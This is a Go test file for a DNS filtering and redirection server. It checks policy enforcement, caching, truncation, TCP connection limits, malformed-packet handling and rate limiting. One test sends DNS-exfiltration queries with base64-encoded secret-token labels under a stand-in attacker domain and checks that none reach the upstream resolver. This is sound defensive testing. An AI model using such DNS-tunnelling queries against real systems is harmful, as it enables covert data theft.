package dnsredir_test

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"os"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/clauderon/clauderond/dnsredir"
	"github.com/clauderon/clauderond/dnsredir/dnstest"
	"github.com/miekg/dns"
)

// served is a Server running on loopback sockets for one test.
type served struct {
	udp, tcp string
	srv      *dnsredir.Server
	stop     func() error // cancels Serve and returns its error
}

func startServer(t testing.TB, h *dnsredir.Handler, tune func(*dnsredir.ServerConfig)) *served {
	t.Helper()
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cfg := dnsredir.ServerConfig{Logger: testLogger(t)}
	if tune != nil {
		tune(&cfg)
	}
	s := dnsredir.NewServer(h, cfg)
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() { errc <- s.Serve(ctx, pc, ln) }()
	select {
	case <-s.Ready():
	case err := <-errc:
		cancel()
		t.Fatalf("Serve: %v", err)
	}
	stop := sync.OnceValue(func() error {
		cancel()
		select {
		case err := <-errc:
			return err
		case <-time.After(10 * time.Second):
			t.Fatal("Serve did not return 10s after cancel")
			return nil
		}
	})
	t.Cleanup(func() {
		if err := stop(); err != nil {
			t.Errorf("Serve returned %v after cancel, want nil", err)
		}
	})
	return &served{udp: pc.LocalAddr().String(), tcp: ln.Addr().String(), srv: s, stop: stop}
}

// exchange sends q over proto ("udp" or "tcp") with a real miekg client.
func exchange(t *testing.T, proto, addr string, q *dns.Msg) *dns.Msg {
	t.Helper()
	c := &dns.Client{Net: proto, Timeout: 3 * time.Second}
	m, _, err := c.Exchange(q, addr)
	if err != nil {
		t.Fatalf("%s exchange with %s: %v", proto, addr, err)
	}
	return m
}

func (s *served) addr(proto string) string {
	if proto == "tcp" {
		return s.tcp
	}
	return s.udp
}

// e2eHandler wires a Handler to an UpstreamResolver asking up.
func e2eHandler(t *testing.T, up *dnstest.Server, p dnsredir.Policy, audit dnsredir.Auditor) *dnsredir.Handler {
	t.Helper()
	res, err := dnsredir.NewUpstreamResolver(dnsredir.UpstreamConfig{Servers: []string{up.Addr}, Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { res.Close() })
	return newHandler(t, dnsredir.Config{
		Reloadable: dnsredir.Reloadable{Policy: p, InterceptAnswer: func(string) []netip.Addr { return []netip.Addr{gateway} }},
		Resolver:   res,
		Auditor:    audit,
	})
}

func TestServer_EndToEndOverUDPAndTCP(t *testing.T) {
	checkNoGoroutineLeak(t)
	up := dnstest.NewServer(t)
	up.SetA("github.com", 60, "140.82.121.4")
	up.SetCNAME("www.github.com", "github.com", 300)
	audit := &eventLog{}
	h := e2eHandler(t, up, policy(map[string]dnsredir.Decision{
		"github.com":        dnsredir.Allow,
		"www.github.com":    dnsredir.Allow,
		"api.anthropic.com": dnsredir.Intercept,
	}), audit)
	s := startServer(t, h, nil)
	for _, proto := range []string{"udp", "tcp"} {
		t.Run(proto, func(t *testing.T) {
			tests := []struct {
				qname string
				qtype uint16
				rcode int
				want  []netip.Addr
			}{
				{"github.com.", dns.TypeA, dns.RcodeSuccess, addrs("140.82.121.4")},
				{"www.github.com.", dns.TypeA, dns.RcodeSuccess, addrs("140.82.121.4")}, // CNAME flattened
				{"api.anthropic.com.", dns.TypeA, dns.RcodeSuccess, []netip.Addr{gateway}},
				{"github.com.", dns.TypeAAAA, dns.RcodeSuccess, nil},
				{"github.com.", dns.TypeHTTPS, dns.RcodeSuccess, nil},
				{"evil.example.", dns.TypeA, dns.RcodeNameError, nil},
			}
			for _, tt := range tests {
				q := question(tt.qname, tt.qtype)
				q.SetEdns0(1232, false)
				m := exchange(t, proto, s.addr(proto), q)
				if m.Rcode != tt.rcode {
					t.Errorf("%s %s: rcode %s, want %s", tt.qname, dns.TypeToString[tt.qtype], dns.RcodeToString[m.Rcode], dns.RcodeToString[tt.rcode])
				}
				if got := aAddrs(t, m); !slices.Equal(got, tt.want) {
					t.Errorf("%s %s: answer %v, want %v", tt.qname, dns.TypeToString[tt.qtype], got, tt.want)
				}
				for _, rr := range m.Answer {
					if rr.Header().Name != tt.qname || rr.Header().Ttl != 30 {
						t.Errorf("%s: record %s, want owner %s and TTL 30", tt.qname, rr, tt.qname)
					}
				}
			}
		})
	}
	// The upstream saw only A lookups for allowed names, once each (cache).
	for _, q := range up.Queries() {
		if q.Qtype != dns.TypeA || (q.Name != "github.com." && q.Name != "www.github.com.") {
			t.Errorf("upstream received %s %s; only A lookups of allowed names may leave", q.Name, dns.TypeToString[q.Qtype])
		}
	}
	if n := len(up.Queries()); n != 2 {
		t.Errorf("upstream received %d queries, want 2 (cached after the first)", n)
	}
	for _, ev := range audit.Events() {
		if ev.SrcIP != netip.MustParseAddr("127.0.0.1") {
			t.Errorf("audit src_ip = %v, want 127.0.0.1", ev.SrcIP)
		}
	}
}

func TestExfiltration_TXTQueryForDeniedNameNeverLeaves(t *testing.T) {
	checkNoGoroutineLeak(t)
	up := dnstest.NewServer(t)
	up.SetA("github.com", 60, "140.82.121.4")
	h := e2eHandler(t, up, policy(map[string]dnsredir.Decision{"github.com": dnsredir.Allow}), nil)
	s := startServer(t, h, nil)
	payloads := []struct {
		qname string
		qtype uint16
	}{
		{"c2VjcmV0LXRva2VuLXBhcnQtMQ.exfil.attacker.example.", dns.TypeTXT},
		{"c2VjcmV0LXRva2VuLXBhcnQtMg.exfil.attacker.example.", dns.TypeA},
		{"c2VjcmV0.exfil.attacker.example.", dns.TypeNULL},
		{"c2VjcmV0.exfil.attacker.example.", dns.TypeCNAME},
		{"c2VjcmV0.github.com.", dns.TypeA}, // a subdomain of an allowed name is a different name
		{"github.com.", dns.TypeTXT},        // allowed name, non-address type: answered locally
		{"_acme.github.com.", dns.TypeTXT},  // never forwarded
		{"4.121.82.140.in-addr.arpa.", dns.TypePTR},
	}
	for _, proto := range []string{"udp", "tcp"} {
		for _, p := range payloads {
			m := exchange(t, proto, s.addr(proto), question(p.qname, p.qtype))
			if len(m.Answer) != 0 {
				t.Errorf("%s %s %s answered with %v", proto, p.qname, dns.TypeToString[p.qtype], m.Answer)
			}
		}
	}
	if qs := up.Queries(); len(qs) != 0 {
		t.Errorf("queries left for the upstream: %+v", qs)
	}
}

func TestTruncation_TCPRetry(t *testing.T) {
	var many []netip.Addr
	for i := range 64 {
		many = append(many, netip.AddrFrom4([4]byte{198, 51, 100, byte(i)}))
	}
	h := newHandler(t, dnsredir.Config{
		Reloadable: dnsredir.Reloadable{Policy: policy(map[string]dnsredir.Decision{"cdn.example": dnsredir.Allow})},
		Resolver:   &recordingResolver{addrs: map[string][]netip.Addr{"cdn.example": many}},
		MaxAnswers: 64,
	})
	s := startServer(t, h, nil)
	m := exchange(t, "udp", s.udp, question("cdn.example.", dns.TypeA))
	if !m.Truncated || len(m.Answer) >= 64 {
		t.Fatalf("UDP reply TC=%v with %d answers, want TC and fewer than 64", m.Truncated, len(m.Answer))
	}
	m.Compress = true // as it was sent
	if m.Len() > dns.MinMsgSize {
		t.Errorf("UDP reply is %d bytes, over 512 without EDNS0", m.Len())
	}
	m = exchange(t, "tcp", s.tcp, question("cdn.example.", dns.TypeA))
	if m.Truncated || len(m.Answer) != 64 {
		t.Errorf("TCP retry TC=%v with %d answers, want all 64", m.Truncated, len(m.Answer))
	}
	if got := h.Stats().Truncated; got != 1 {
		t.Errorf("Stats().Truncated = %d, want 1", got)
	}
}

func TestServer_CancelReturnsNilAndLeaksNoGoroutines(t *testing.T) {
	checkNoGoroutineLeak(t)
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	s := startServer(t, h, func(s *dnsredir.ServerConfig) {
		s.IdleTimeout = time.Minute // the idle connection below must be cut by shutdown, not by a timeout
		s.ShutdownGrace = 500 * time.Millisecond
	})
	exchange(t, "udp", s.udp, question("a.example.", dns.TypeA))
	idle, err := dns.Dial("tcp", s.tcp)
	if err != nil {
		t.Fatal(err)
	}
	defer idle.Close()
	if err := idle.WriteMsg(question("b.example.", dns.TypeA)); err != nil {
		t.Fatal(err)
	}
	if _, err := idle.ReadMsg(); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	if err := s.stop(); err != nil {
		t.Fatalf("Serve returned %v after cancel, want nil", err)
	}
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("Serve took %v to stop with an idle TCP client", d)
	}
	idle.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := idle.ReadMsg(); err == nil || os.IsTimeout(err) {
		t.Errorf("idle TCP connection still open after shutdown: read error %v", err)
	}
	if _, err := net.DialTimeout("tcp", s.tcp, time.Second); err == nil {
		t.Error("TCP listener still accepting after Serve returned")
	}
}

func TestServer_TCPConnectionsArePerClientBounded(t *testing.T) {
	checkNoGoroutineLeak(t)
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	s := startServer(t, h, func(s *dnsredir.ServerConfig) { s.MaxTCPConnsPerClient = 2 })
	var conns []*dns.Conn
	for range 2 {
		c, err := dns.Dial("tcp", s.tcp)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		if err := c.WriteMsg(question("a.example.", dns.TypeA)); err != nil {
			t.Fatal(err)
		}
		if _, err := c.ReadMsg(); err != nil {
			t.Fatalf("connection within the limit: %v", err)
		}
		conns = append(conns, c)
	}
	extra, err := dns.Dial("tcp", s.tcp)
	if err != nil {
		t.Fatal(err)
	}
	defer extra.Close()
	extra.SetDeadline(time.Now().Add(10 * time.Second))
	_ = extra.WriteMsg(question("a.example.", dns.TypeA))
	if _, err := extra.ReadMsg(); err == nil || os.IsTimeout(err) {
		t.Errorf("third connection from one client was served (read error %v), want it closed", err)
	}
	if got := h.Stats().TCPConnsRejected; got != 1 {
		t.Errorf("Stats().TCPConnsRejected = %d, want 1", got)
	}
	// Closing one frees its slot.
	conns[0].Close()
	deadline := time.Now().Add(10 * time.Second)
	for {
		c, err := dns.Dial("tcp", s.tcp)
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(time.Second))
		_ = c.WriteMsg(question("a.example.", dns.TypeA))
		_, err = c.ReadMsg()
		c.Close()
		if err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("slot not released after a connection closed: %v", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestServer_SlowTCPClientsAreCut(t *testing.T) {
	checkNoGoroutineLeak(t)
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	s := startServer(t, h, func(s *dnsredir.ServerConfig) {
		s.ReadTimeout = 200 * time.Millisecond
		s.IdleTimeout = 200 * time.Millisecond
	})
	tests := []struct {
		name string
		send []byte
	}{
		{"silent", nil},
		{"half_length_prefix", []byte{0}},
		{"length_without_body", []byte{0, 40, 1, 2}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := net.Dial("tcp", s.tcp)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			if _, err := c.Write(tt.send); err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			c.SetReadDeadline(time.Now().Add(3 * time.Second))
			_, err = c.Read(make([]byte, 1))
			if err == nil || os.IsTimeout(err) {
				t.Fatalf("server kept a slow connection open: read error %v", err)
			}
			if d := time.Since(start); d > 2*time.Second {
				t.Errorf("slow connection cut after %v, want about the 200ms timeout", d)
			}
		})
	}
}

func TestServer_TCPQueriesPerConnectionAreBounded(t *testing.T) {
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	s := startServer(t, h, func(s *dnsredir.ServerConfig) { s.MaxTCPQueries = 3 })
	c, err := dns.Dial("tcp", s.tcp)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	for i := range 4 {
		werr := c.WriteMsg(question("a.example.", dns.TypeA))
		_, rerr := c.ReadMsg()
		if i < 3 && (werr != nil || rerr != nil) {
			t.Fatalf("query %d: %v %v", i, werr, rerr)
		}
		if i == 3 && rerr == nil {
			t.Error("fourth query on one connection answered, want the connection closed after 3")
		}
	}
}

// rawUDP sends b to addr and returns the reply, or nil after waiting wait.
func rawUDP(t *testing.T, addr string, b []byte, wait time.Duration) []byte {
	t.Helper()
	c, err := net.Dial("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write(b); err != nil {
		t.Fatal(err)
	}
	c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 4096)
	n, err := c.Read(buf)
	if err != nil {
		return nil
	}
	return buf[:n]
}

func TestServer_GarbageIsCountedAndNeverAmplified(t *testing.T) {
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	s := startServer(t, h, nil)
	header := func(id, flags, qd, an, ns, ar uint16) []byte {
		b := make([]byte, 12)
		for i, v := range []uint16{id, flags, qd, an, ns, ar} {
			binary.BigEndian.PutUint16(b[2*i:], v)
		}
		return b
	}
	tests := []struct {
		name      string
		pkt       []byte
		wantReply bool
		wantRcode int
	}{
		{"shorter_than_header", []byte{1, 2, 3, 4, 5}, false, 0},
		{"response_bit_set", header(1, 1<<15, 1, 0, 0, 0), false, 0},
		{"question_cut_short", append(header(2, 0, 1, 0, 0, 0), 3, 'a', 'b'), true, dns.RcodeFormatError},
		{"two_questions_header", header(3, 0, 2, 0, 0, 0), true, dns.RcodeFormatError},
		{"many_additional_records", header(4, 0, 1, 0, 0, 200), true, dns.RcodeFormatError},
		{"no_question", header(5, 0, 0, 0, 0, 0), true, dns.RcodeFormatError},
		{"opcode_update", header(6, 5<<11, 1, 0, 0, 0), true, dns.RcodeNotImplemented},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// A reply that is due may be slow under load; one that is not
			// due is waited for briefly (if it came later, the check would
			// miss it: a false pass at worst, never a false failure).
			wait := 300 * time.Millisecond
			if tt.wantReply {
				wait = 5 * time.Second
			}
			reply := rawUDP(t, s.udp, tt.pkt, wait)
			if (reply != nil) != tt.wantReply {
				t.Fatalf("reply %x, want a reply: %v", reply, tt.wantReply)
			}
			if reply == nil {
				return
			}
			if len(reply) > max(len(tt.pkt), 12) {
				t.Errorf("reply of %d bytes to a %d-byte packet amplifies", len(reply), len(tt.pkt))
			}
			m := new(dns.Msg)
			if err := m.Unpack(reply); err != nil {
				t.Fatalf("unpacking reply: %v", err)
			}
			if m.Rcode != tt.wantRcode {
				t.Errorf("rcode = %s, want %s", dns.RcodeToString[m.Rcode], dns.RcodeToString[tt.wantRcode])
			}
		})
	}
	// The packets without a reply are counted whenever the server gets to
	// them: wait for the counts rather than assume it already has.
	st := h.Stats()
	for deadline := time.Now().Add(5 * time.Second); (st.Malformed < 6 || st.Dropped < 1) && time.Now().Before(deadline); st = h.Stats() {
		time.Sleep(10 * time.Millisecond)
	}
	if st.Malformed != 6 || st.Dropped != 1 {
		t.Errorf("Stats() = %+v, want Malformed 6 and Dropped 1", st)
	}
}

func TestServer_ServeMisuse(t *testing.T) {
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	if err := dnsredir.NewServer(h, dnsredir.ServerConfig{}).Serve(context.Background(), nil, nil); err == nil {
		t.Error("Serve with no sockets succeeded")
	}
	s := startServer(t, h, nil)
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	if err := s.srv.Serve(context.Background(), pc, nil); err == nil {
		t.Error("second Serve succeeded")
	}
}

// failingListener fails every Accept.
type failingListener struct{ net.Listener }

func (failingListener) Accept() (net.Conn, error) { return nil, errors.New("accept: broken") }

func TestServer_FailedListenerStopsServeWithError(t *testing.T) {
	checkNoGoroutineLeak(t)
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}})
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := dnsredir.NewServer(h, dnsredir.ServerConfig{ShutdownGrace: 200 * time.Millisecond})
	errc := make(chan error, 1)
	go func() { errc <- s.Serve(context.Background(), pc, failingListener{ln}) }()
	select {
	case err := <-errc:
		if err == nil {
			t.Error("Serve returned nil after its listener failed")
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Serve did not return after its listener failed")
	}
	if _, err := pc.WriteTo([]byte{0}, pc.LocalAddr()); err == nil {
		t.Error("PacketConn still open after Serve returned")
	}
}

func TestRateLimit_OverTheWire(t *testing.T) {
	h := newHandler(t, dnsredir.Config{Reloadable: dnsredir.Reloadable{Policy: policy(nil)}, Resolver: &recordingResolver{}, RatePerSecond: 0.001, Burst: 2})
	s := startServer(t, h, nil)
	var rcodes []int
	for range 4 {
		rcodes = append(rcodes, exchange(t, "udp", s.udp, question("evil.example.", dns.TypeA)).Rcode)
	}
	want := []int{dns.RcodeNameError, dns.RcodeNameError, dns.RcodeRefused, dns.RcodeRefused}
	if !slices.Equal(rcodes, want) {
		t.Errorf("rcodes = %v, want %v (burst of 2, then REFUSED)", rcodes, want)
	}
}
